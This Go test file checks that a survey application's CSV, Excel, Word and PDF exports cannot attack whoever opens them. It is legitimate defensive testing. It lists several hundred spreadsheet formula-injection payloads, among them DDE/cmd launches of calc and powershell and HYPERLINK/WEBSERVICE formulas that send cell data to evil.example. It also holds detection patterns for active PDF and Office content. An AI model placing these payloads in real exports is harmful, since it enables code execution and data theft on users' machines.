package web_test

import (
	"archive/zip"
	"bytes"
	"encoding/csv"
	"encoding/xml"
	"errors"
	"fmt"
	"io"
	"net/http"
	"path"
	"regexp"
	"strings"
	"testing"

	"hailong/internal/staff"
	"hailong/internal/store"
	"hailong/internal/survey"
)

// formulas are what a spreadsheet might run, each behind each of the signs by which
// one begins: 500 and more.
func formulas() (list []string) {
	signs := []string{"=", "+", "-", "@", "\t=", "\r=", "\n=", "\x00=", "＝", "＋", "－", "＠", " =", "\u00a0=", "\ufeff=", "\u200b=", "';=", "\";=", "\",="}
	for _, sign := range signs {
		for _, run := range []string{
			"1+1", "cmd|' /C calc'!A0", "DDE(\"cmd\";\"/C calc\";\"x\")", "HYPERLINK(\"http://evil.example?x=\"&A1,\"Xem\")", "IMPORTXML(\"http://evil.example\",\"//a\")", "WEBSERVICE(\"http://evil.example\")",
			"SUM(1+1)*cmd|' /C calc'!A0", "2+5+cmd|' /C powershell'!A0", "A1", "SUM(A1:A9)", "\"=1\"", "1;=2", "1\n=2", "1\t=2", "EXEC(\"calc\")", "CALL(\"urlmon\",\"x\")", "REGISTER.ID(\"a\",\"b\")", "-1", "{=1}", "'=1",
			"%0A=1", "<script>", "]]>", "&#61;1", "tiếng Việt", "{{.}}", "$(id)", "0x1",
		} {
			list = append(list, sign+run)
		}
	}
	return list
}

// A sight is a downloaded file as a program of its kind opens it.
type sight struct {
	*testing.T
	route string
	cells int
}

var armed = "=+-@\t\r\n\x00＝＋－＠"

var figure = regexp.MustCompile(`^-?[0-9.,]+$`)

// csv looks at every cell, as programs cut them that take commas, or semicolons.
func (v *sight) csv(file string) {
	v.Helper()
	comma := ','
	if head, _, _ := strings.Cut(file, "\n"); strings.Count(head, ";") > strings.Count(head, ",") {
		comma = ';'
	}
	r := csv.NewReader(strings.NewReader(strings.TrimPrefix(file, "\ufeff")))
	r.Comma, r.FieldsPerRecord = comma, -1
	rows, err := r.ReadAll()
	if err != nil {
		v.Errorf("%s is no table: %v", v.route, err)
	}
	for _, row := range rows {
		for _, cell := range row {
			v.cells++
			if bare := strings.TrimLeft(cell, " \u00a0\ufeff\u200b"); bare != "" && strings.ContainsRune(armed, []rune(bare)[0]) && !figure.MatchString(bare) {
				v.Errorf("%s: cell %q begins a formula", v.route, cell)
			}
		}
	}
}

var inward = regexp.MustCompile(`TargetMode="External"|<f>|<f |instrText|fldSimple|<hyperlink|externalLink|ddeLink|vbaProject|attachedTemplate`)

// own is what our files compute: the number of a page, and figures from cells.
var own = regexp.MustCompile(`<w:instrText xml:space="preserve"> PAGE </w:instrText>|<f>(?:\$?[A-Z]{1,2}\$?\d+|ROUND|IF|SUM|[(),=+*/0-9.:-]|&#34;—&#34;|&#39;[A-Z0-9]+&#39;!)+</f>`)

// office looks into a workbook or a document.
func (v *sight) office(file string) {
	v.Helper()
	z, err := zip.NewReader(strings.NewReader(file), int64(len(file)))
	if err != nil {
		v.Errorf("%s is no archive: %v", v.route, err)
		return
	}
	for _, f := range z.File {
		r, err := f.Open()
		if err != nil {
			v.Fatal(err)
		}
		body, err := io.ReadAll(r)
		if err != nil {
			v.Fatal(err)
		}
		if ext := path.Ext(f.Name); ext != ".xml" && ext != ".rels" {
			v.Errorf("%s holds %s", v.route, f.Name)
			continue
		}
		v.cells++
		d := xml.NewDecoder(bytes.NewReader(body))
		for err == nil {
			_, err = d.Token()
		}
		if !errors.Is(err, io.EOF) {
			v.Errorf("%s, %s: %v", v.route, f.Name, err)
		}
		rest := own.ReplaceAllString(string(body), "")
		if at := inward.FindStringIndex(rest); at != nil {
			v.Errorf("%s, %s holds %s", v.route, f.Name, rest[max(0, at[0]-100):min(len(rest), at[1]+100)])
		}
	}
}

var active = regexp.MustCompile(`/JavaScript|/JS\b|/OpenAction [^[]|/Launch|/URI\b|/AA\b|/EmbeddedFile\b|/SubmitForm|/GoToR`)

func (v *sight) pdf(file string) {
	v.Helper()
	v.cells++
	if found := active.FindString(file); found != "" || !strings.HasPrefix(file, "%PDF-") {
		v.Errorf("%s holds %q", v.route, found)
	}
}

// look opens a file by its kind and reports whether it is one.
func (v *sight) look(a reply) bool {
	v.Helper()
	switch kind := a.Header.Get("Content-Type"); {
	case strings.HasPrefix(kind, "text/csv"):
		v.csv(a.body)
	case strings.Contains(kind, "officedocument"):
		v.office(a.body)
	case kind == "application/pdf":
		v.pdf(a.body)
	default:
		return false
	}
	return true
}

func TestS8NoExportCanAttackWhoOpensIt(t *testing.T) {
	s := quarterIsOver(t)
	paths := s.everyPath()
	all := formulas()
	if len(all) < 500 {
		t.Fatalf("got %d formulas, want 500", len(all))
	}
	for from := 0; from < len(all); from += 50 {
		s.said("dot-demo", "trung-tam", survey.Day(2026, 10, 1+from/50), 50, all[from:min(from+50, len(all))]...)
	}
	token := s.token(staff.Admin)
	files, cells := map[string]bool{}, 0
	for i := 0; i < 19; i += 3 { // other signs, other orders
		s.call(all[i*28+i%28])
		for _, route := range s.everyRoute() {
			method, pattern, _ := strings.Cut(route, " ")
			if method != http.MethodGet {
				continue
			}
			for _, address := range variants(paths.anywhere(pattern)) {
				v := &sight{T: t, route: address}
				if a := s.getAs(token, address); a.StatusCode == http.StatusOK && v.look(a) {
					files[path.Ext(strings.Split(address, "?")[0])+" "+pattern] = true
				}
				cells += v.cells
			}
		}
	}
	t.Logf("%d formulas, %d kinds of file, %d cells and parts", len(all), len(files), cells)
	for _, kind := range []string{".csv /api/v1/export.csv", ".xlsx /api/v1/export.xlsx", ".csv /api/v1/reports/:campaign/:file", ".xlsx /api/v1/reports/:campaign/:file", ".docx /api/v1/reports/:campaign/:file", ".pdf /api/v1/reports/:campaign/:file", ".csv /office/audit/:file", ".csv /office/campaigns/:code/volumes.csv"} {
		if !files[kind] {
			t.Errorf("no file of the kind %q was looked at, of %v", kind, files)
		}
	}
}

// variants are the files of an address, by what stands at its end.
func variants(address string) []string {
	switch ext := path.Ext(address); {
	case strings.HasPrefix(address, "/api/v1/reports/") && ext == ".csv", strings.Contains(address, "/files/"):
		var list []string
		for _, other := range []string{".csv", ".xlsx", ".docx", ".pdf"} {
			list = append(list, strings.TrimSuffix(address, ext)+other)
		}
		return list
	case strings.HasPrefix(address, "/api/v1/export"):
		return []string{address + "?campaign=dot-demo"}
	}
	return []string{address}
}

// call gives everything that has a name one and the same.
func (s *site) call(name string) {
	s.t.Helper()
	text := survey.Text{"vi": name, "en": name}
	change(s, store.Units, "ninh-giang", func(u *survey.Unit) { u.Name, u.Authority = text, text })
	change(s, store.Places, "trung-tam", func(p *survey.Place) { p.Name, p.Counters[0].Name = text, text })
	change(s, store.Campaigns, "dot-demo", func(k *survey.Campaign) { k.Name = text })
	s.desk.Forget()
}

func change[T any](s *site, k store.Kind[T], id string, do func(*T)) {
	s.t.Helper()
	v, err := k.Get(s.t.Context(), s.store, id)
	if err != nil {
		s.t.Fatal(fmt.Errorf("change %s: %w", id, err))
	}
	do(&v)
	put(s, k, id, v)
}
